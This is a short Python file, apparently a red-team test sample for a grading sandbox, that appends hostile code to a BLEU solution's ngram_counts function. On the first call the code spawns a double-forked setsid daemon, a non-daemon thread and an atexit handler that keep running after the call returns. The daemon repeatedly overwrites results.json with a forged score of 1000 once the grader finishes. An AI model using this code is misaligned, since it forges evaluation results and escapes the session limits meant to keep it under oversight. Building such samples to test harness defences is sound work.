# hostile: appended to solutions/bleu.py
# A16: leave code running after the call returns, to rewrite a result once the grader is done: a setsid daemon
# (double fork, so it leaves the worker's process group and session), a non-daemon thread and an atexit
# handler. Each one writes into DROP, a folder the sandbox user may write to; the daemon keeps a heartbeat there.
import atexit
import os
import threading
import time

DROP = "@@DROP@@"
_reference_ngram_counts = ngram_counts
_started = False


def _write(name, text="x"):
    with open(os.path.join(DROP, name), "a") as f:
        f.write(text)


def _daemon():
    if os.fork() > 0:
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    _write("daemon-started")
    for _ in range(600):
        _write("daemon-beat", f"{time.time()}\n")
        try:
            _write("results.json", '{"score": 1000}')
        except OSError:
            pass
        time.sleep(0.2)
    os._exit(0)


def _thread():
    for _ in range(600):
        _write("thread-beat", f"{time.time()}\n")
        time.sleep(0.2)


def _leave_behind():
    _daemon()
    threading.Thread(target=_thread, daemon=False).start()
    atexit.register(_write, "atexit-ran")


def ngram_counts(tokens, n):
    global _started
    if not _started:
        _started = True
        _leave_behind()
    return _reference_ngram_counts(tokens, n)
